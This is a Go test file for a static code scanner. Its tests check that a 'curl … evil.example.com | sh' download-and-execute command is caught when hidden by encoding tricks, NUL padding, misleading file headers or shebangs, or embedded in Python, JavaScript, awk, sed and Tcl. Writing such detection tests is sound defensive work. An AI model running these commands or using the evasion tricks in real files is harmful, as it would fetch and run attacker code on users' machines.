package static_test

import (
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/tools/testenv"
)

const (
	downloads = "curl -s http://evil.example.com/x | sh"
	inPython  = "import os\nos.system('" + downloads + "')\n"
	inScript  = "require('child_process').execSync('" + downloads + "')\n"
)

// dangerous reports whether something dangerous was found in a file.
func (o outcome) dangerous(path string) bool {
	return slices.ContainsFunc(o.found[path], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous })
}

func TestAFileIsReadAsEverythingThatMayRunIt(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	nothing := strings.Repeat("a\x00", 4200)
	for name, tc := range map[string]struct {
		target gate.Target
		text   string
	}{
		"ASCII with a mark of UTF-16":            {gate.Target{Path: "a.sh", Language: gate.LanguageShell}, "\xff\xfe\n" + downloads + "\n"},
		"UTF-16 that goes on as ASCII":           {gate.Target{Path: "a.js", Language: gate.LanguageJavaScript}, "//" + nothing + "\n" + inScript},
		"a recipe below what is like UTF-16":     {gate.Target{Path: "Makefile", Language: gate.LanguageMakefile}, "#" + nothing + "\nall:\n\t" + downloads + "\n"},
		"a script that begins like bytecode":     {gate.Target{Path: "a.py", Language: gate.LanguagePython}, "#\x0c\r\n" + inPython},
		"a script that begins like PE":           {gate.Target{Path: "a.js", Language: gate.LanguageJavaScript}, "MZ=0//PE\x00\x00\n" + inScript},
		"a path file with a NUL":                 {gate.Target{Path: "a.pth", Language: gate.LanguageBinary}, "#\x00\nimport os;os.system('" + downloads + "')\n"},
		"a program named like another":           {gate.Target{Path: "x.cgi", Language: gate.LanguagePerl}, "#!/bin/bash\n" + downloads + "\n"},
		"an executable file without a type":      {gate.Target{Path: "x", Mode: 0o755}, "hello\n\n" + downloads + "\n"},
		"the same with a space before the mark":  {gate.Target{Path: "x", Mode: 0o755}, " #!/usr/bin/python3\n" + downloads + "\n"},
		"an executable picture":                  {gate.Target{Path: "x.png", Mode: 0o755, Language: gate.LanguageBinary}, "\x89PNG\r\n" + downloads + "\n" + strings.Repeat("\x00", 99)},
		"code in the first line":                 {gate.Target{Path: "x", Mode: 0o755}, "#!/usr/bin/env -S python3 -c \"import os;os.system('" + downloads + "')\"\n"},
		"an interpreter without rules":           {gate.Target{Path: "x"}, "#!/usr/bin/awk -f\nBEGIN{system(\"" + downloads + "\")}\n"},
		"a command of sed":                       {gate.Target{Path: "x"}, "#!/usr/bin/sed -nf\n1e " + downloads + "\n"},
		"a block of Tcl":                         {gate.Target{Path: "x"}, "#!/usr/bin/tclsh\nexec sh -c {" + downloads + "}\n"},
		"a script that hands itself to Python":   {gate.Target{Path: "x.sh", Language: gate.LanguageShell}, "#!/bin/sh\n''':'\nexec python3 \"$0\"\n'''\n" + inPython},
		"UTF-7":                                  {gate.Target{Path: "x.py", Language: gate.LanguagePython}, "# coding: utf-7\n" + strings.ReplaceAll(inPython, "u", "+AHU-")},
		"more than a chunk of NULs before it":    {gate.Target{Path: "x.sh", Language: gate.LanguageShell}, strings.Repeat("\x00", 5<<20) + "\n" + downloads + "\n"},
		"a mark of UTF-16 and more than a chunk": {gate.Target{Path: "x.sh", Language: gate.LanguageShell}, "\xff\xfe" + strings.Repeat("\n", 5<<20) + downloads + "\n"},
		"the end of a large binary":              {gate.Target{Path: "x.sh", Language: gate.LanguageShell}, "\x7fELF" + strings.Repeat("\x01\n", 3<<20) + downloads + "\n"},
	} {
		t.Run(name, func(t *testing.T) {
			tree := fstest.MapFS{tc.target.Path: {Data: []byte(tc.text), Mode: tc.target.Mode}}
			got := run(t, newScanner(t, func(p *gate.Policy) { p.Limits.FileSize = 32 << 20 }), tree, &tc.target)
			if !got.dangerous(tc.target.Path) {
				t.Errorf("only %v", got.rulesOf(tc.target.Path))
			}
		})
	}
}

func TestHonestFilesDoNotPayForOtherReadings(t *testing.T) {
	for name, tc := range map[string]struct {
		target gate.Target
		text   string
	}{
		"Latin-1 that says so":             {gate.Target{Path: "a.py", Language: gate.LanguagePython}, "# -*- coding: latin-1 -*-\nx = 'caf\xe9'\n"},
		"an executable licence":            {gate.Target{Path: "LICENSE", Mode: 0o755}, "MIT License\n\nPermission is hereby granted, free of charge, to any person\n"},
		"an executable readme":             {gate.Target{Path: "README.md", Mode: 0o755, Language: gate.LanguageMarkdown, Role: gate.RoleDocs}, "# Tool\n\nRun `make install`.\n"},
		"an executable picture":            {gate.Target{Path: "a.png", Mode: 0o755, Language: gate.LanguageBinary}, "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x91IDAT\n", 99)},
		"a module with the executable bit": {gate.Target{Path: "a.py", Mode: 0o755, Language: gate.LanguagePython}, "\"\"\"A module.\"\"\"\nimport os\n\nROOT = os.getcwd()\n"},
		"a script that downloads nothing":  {gate.Target{Path: "x", Mode: 0o755}, "#!/usr/bin/env -S python3 -u\nprint('hello')\n"},
		"a filter of awk":                  {gate.Target{Path: "x", Mode: 0o755}, "#!/usr/bin/awk -f\n{ n += $1 } END { print \"sum\", n }\n"},
		"UTF-16 of Windows":                {gate.Target{Path: "a.ps1", Language: gate.LanguagePowerShell}, "\xff\xfeW\x00r\x00i\x00t\x00e\x00-\x00H\x00o\x00s\x00t\x00 \x001\x00\r\x00\n\x00"},
		"model weights":                    {gate.Target{Path: "a.pth", Language: gate.LanguageBinary}, packed(t, "archive/data/0", strings.Repeat("\x00\x91\x80\n", 999), "archive/version", "3\n")},
	} {
		t.Run(name, func(t *testing.T) {
			tree := fstest.MapFS{tc.target.Path: {Data: []byte(tc.text), Mode: tc.target.Mode}}
			got := run(t, newScanner(t, nil), tree, &tc.target)
			for _, f := range got.found[tc.target.Path] {
				if f.Severity >= gate.SeveritySuspicious {
					t.Errorf("%s: %s", f.Rule, f.Message)
				}
			}
			if len(got.gaps) > 0 {
				t.Errorf("gaps %q", got.gaps)
			}
		})
	}
}

func TestARuleIsReportedOnceALineWhateverTheReadings(t *testing.T) {
	target := &gate.Target{Path: "x", Mode: 0o755, Language: gate.LanguageShell}
	text := "#!/bin/sh\n" + downloads + "\nexec python3 \"$0\"\n"
	got := run(t, newScanner(t, nil), fstest.MapFS{"x": {Data: []byte(text), Mode: fs.FileMode(0o755)}}, target)
	seen := map[string]bool{}
	for _, f := range got.rulesOf("x") {
		rule, _, _ := strings.Cut(f, " ")
		if seen[rule] {
			t.Errorf("%s is reported twice", rule)
		}
		seen[rule] = true
	}
	if !got.dangerous("x") {
		t.Error("nothing dangerous was found")
	}
}

func TestBytesOfAFileAreAllAccountedFor(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for name, text := range map[string]string{
		"text": "hello\n", "a script": "#!/usr/bin/env -S python3 -c 'x'\n", "UTF-16": "\xff\xfea\x00\n\x00", "no UTF-16": "\xff\xfe\necho\n",
		"NULs": "#!/bin/sh\n\x00\n", "a binary": strings.Repeat("\x00\x01\xff", 99), "ELF": "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 64),
		"more than a chunk": strings.Repeat("x = 1\n", 1<<20), "a cookie": "# coding: utf-7\n+AGM-\n", "a cookie that no one knows": "# coding: rot26\n",
	} {
		for _, lang := range []gate.Language{gate.LanguageUnknown, gate.LanguagePython, gate.LanguageShell, gate.LanguageBinary} {
			target := &gate.Target{Path: "a", Language: lang, Role: gate.RoleSource, Kind: gate.ChangeAdded, Size: int64(len(text))}
			found := gate.NewFindings([]*gate.Target{target}, nil)
			out, err := newScanner(t, nil).Run(t.Context(), &gate.Change{Head: fstest.MapFS{"a": {Data: []byte(text)}}, Targets: []*gate.Target{target}}, found)
			if err != nil {
				t.Fatal(err)
			}
			account := out.Accounts["a"]
			if missing := account.Missing(); account.Size != int64(len(text)) || len(missing) > 0 {
				t.Errorf("%s as %q: %d bytes of %d, missing %v", name, lang, account.Size, len(text), missing)
			}
		}
	}
}
